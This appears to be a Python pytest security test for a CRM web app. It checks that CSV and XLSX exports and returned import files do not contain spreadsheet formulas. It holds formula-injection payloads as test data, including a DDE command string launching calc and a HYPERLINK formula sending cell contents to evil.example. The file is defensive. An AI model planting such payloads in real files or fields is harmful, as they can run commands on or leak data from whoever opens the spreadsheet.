"""Whatever can be downloaded, opened in a spreadsheet: nothing in it is calculated."""

import csv
import io
from collections.abc import Callable, Iterator
from typing import Any

import openpyxl
import psycopg
import pytest
from flask import Flask
from psycopg import sql

from leadcrm.imports.services import running
from tests.attack import canaries
from tests.attack.policy import PRINCIPALS, Principal, route_of
from tests.attack.stage import EVERYBODY, Stage, raise_curtain
from tests.doors import DOORS, Door, address, names
from tests.imports.test_views import chosen, work
from tests.people import ANN
from tests.world import Browser

HEADS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=\t", "'=", "\u00a0=", "==", "=+", "@@", "\ufeff=", "\u200b=",
         "+-", "-+", "- ", "+ "]  # fmt: skip
TAILS = ["cmd|'/C calc'!A0", 'HYPERLINK("https://evil.example/"&A1)']
PAYLOADS = [head + tail for head in HEADS for tail in TAILS]
CALCULATED = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet takes for a formula at the head of a cell
SHEETS = ("text/csv", "spreadsheet", "text/tab-separated", "application/vnd.ms-excel")


def cells(content: bytes, kind: str) -> Iterator[tuple[str, str]]:
    """Type and text of every cell of a downloaded file."""
    if "spreadsheet" in kind:
        for sheet in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
            yield from ((cell.data_type, str(cell.value)) for row in sheet.iter_rows() for cell in row)
        return
    text = content.decode("utf-8-sig", errors="replace")
    delimiter = max(";,\t", key=text.partition("\n")[0].count)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        yield from (("text", cell) for cell in row)


def calculated(content: bytes, kind: str) -> list[str]:
    """Cells that a spreadsheet would calculate; plain numbers may begin with a sign."""
    found = []
    for type_, text in cells(content, kind):
        if type_ == "f" or (
            type_ == "text" and text.lstrip(" \u00a0\ufeff\u200b").startswith(CALCULATED) and not _number(text)
        ):
            found.append(text)
    return found


def _number(text: str) -> bool:
    return bool(text.strip()) and set(text) <= set("+-0123456789 .,()/")


def test_there_are_forty() -> None:
    assert len(PAYLOADS) >= 40
    assert calculated(b"a;=1+1\n-5;+31 6 12\n", "text/csv") == ["=1+1"]


@pytest.fixture(scope="module")
def stage(whole_app: Flask, admin_url: str) -> Iterator[Stage]:
    """Every text of every table begins like a formula; each row has another one."""
    for stage in raise_curtain(whole_app, admin_url, PRINCIPALS):
        Browser(whole_app).send("/auth/sign-in", {"email": ANN.email, "password": "x"})  # to be exported
        _infect(stage)
        stage.keep()
        yield stage


def _infect(stage: Stage) -> None:
    for model in canaries.MODELS:
        columns = [name for name, unlike in canaries.bearing(model) if not unlike]
        keys = [each.name for each in model.__table__.primary_key]
        rows = stage.admin.execute(
            sql.SQL("SELECT {} FROM {}").format(
                sql.SQL(", ").join(map(sql.Identifier, keys)), sql.Identifier(model.__tablename__)
            )
        ).fetchall()
        for number, row in enumerate(rows if columns else ()):
            _write(stage.admin, model, dict(zip(keys, row, strict=True)), columns, number)


def _write(admin: psycopg.Connection[Any], model: Any, row: dict[str, Any], columns: list[str], number: int) -> None:
    pairs = [(name, PAYLOADS[(number + place) % len(PAYLOADS)]) for place, name in enumerate(columns)]
    pairs = [(name, f"{text} and enough words around it" if name == "reason" else text) for name, text in pairs]
    longest = {name: model.__table__.columns[name].type.length or 999 for name in columns}
    assigned = sql.SQL(", ").join(
        sql.SQL("{} = {}").format(sql.Identifier(name), sql.Literal(text[: longest[name]])) for name, text in pairs
    )
    where = sql.SQL(" AND ").join(sql.SQL("{} = {}").format(sql.Identifier(key), sql.Literal(row[key])) for key in row)
    admin.execute(sql.SQL("UPDATE {} SET {} WHERE {}").format(sql.Identifier(model.__tablename__), assigned, where))


READERS = [each for each in PRINCIPALS if each.name in ("agent", "company manager", "admin")]
PRIVATE = [door for door in DOORS if (route_of(door) or {}).get("right") != "public"]


def sheets(stage: Stage, door: Door, principal: Principal) -> Iterator[Any]:
    """The answers of a route that are tables to be opened elsewhere; a link to one is followed."""
    mine = next(target for target in stage.targets if target.owner == EVERYBODY[ANN.name])
    browser, path = stage.browser(principal), address(door, mine.rows.fill(door[0], door[2]))
    form = (route_of(door) or {}).get("form", {})
    answer = browser.get(path) if door[1] == "GET" else browser.send(path, form)
    if answer.status_code == 303 and "export" in (answer.location or ""):
        answer = browser.get(answer.location)
    if any(sheet in answer.content_type for sheet in SHEETS):
        yield answer


@pytest.mark.asvs("V1.2.10")
@pytest.mark.parametrize("door", PRIVATE, ids=names)
def test_no_download_calculates(stage: Stage, door: Door) -> None:
    for principal in READERS:
        for answer in sheets(stage, door, principal):
            assert calculated(answer.data, answer.content_type) == [], principal.name
            assert answer.headers["Content-Disposition"].startswith("attachment")
            assert answer.headers["X-Content-Type-Options"] == "nosniff"
        if door[1] == "POST":
            stage.restore()


EXPORTS = {"trail.export_lines", "watch.export_failed_logins"}


def test_exports_are_among_them(stage: Stage) -> None:
    """Otherwise nothing above was ever opened."""
    admin = next(each for each in READERS if each.name == "admin")
    doors = [door for door in PRIVATE if door[0].endpoint in EXPORTS]
    sizes = [len(list(cells(each.data, each.content_type))) for door in doors for each in sheets(stage, door, admin)]
    assert len(sizes) == len(EXPORTS) and min(sizes) > 10, sizes


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_lines_that_come_back_calculate_nothing(
    client_as: Callable[[Any], Browser], worker_app: Flask, ending: str
) -> None:
    """A file that could not be imported goes back to who sent it, and from there to a colleague who opens it."""
    ann = client_as(ANN)
    rows = [
        ["Achternaam", "E-mail", "Opmerking"],
        *([f"De Vries {number}", "geen adres", payload] for number, payload in enumerate(PAYLOADS)),
    ]
    location = _upload(ann, rows, ending)
    form = chosen(ann, location) | {
        "column-0": "applicant.birth_name",
        "column-1": "applicant.email",
        "column-2": "",
        "then": "check",
    }
    form["fixed-lead.goal"] = "purchase_existing"
    assert ann.send(f"{location}/columns", form).location == f"{location}/check"
    work(worker_app, ANN, location, running.check)
    ann.send(f"{location}/run", {"on_problem": "skip", "on_duplicate": "skip"})
    work(worker_app, ANN, location, running.run_slice)
    answer = ann.get(f"{location}/not-imported")
    assert answer.status_code == 200
    assert sum("calc" in text or "HYPERLINK" in text for _type, text in cells(answer.data, answer.content_type)) >= 30
    assert calculated(answer.data, answer.content_type) == []


def _upload(browser: Browser, rows: list[list[str]], ending: str) -> str:
    if ending == "xlsx":
        book = openpyxl.Workbook()
        sheet: Any = book.active
        for line, row in enumerate(rows, 1):
            for place, text in enumerate(row, 1):
                sheet.cell(line, place, openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", text)).data_type = "s"
        out = io.BytesIO()
        book.save(out)
        content = out.getvalue()
    else:
        out_text = io.StringIO(newline="")
        csv.writer(out_text, delimiter=";").writerows(rows)
        content = out_text.getvalue().encode()
    answer = browser.send(
        "/leads/import", {"file": (io.BytesIO(content), f"file.{ending}")}, content_type="multipart/form-data"
    )
    assert answer.status_code == 303, answer.text
    return str(answer.location).removesuffix("/columns")
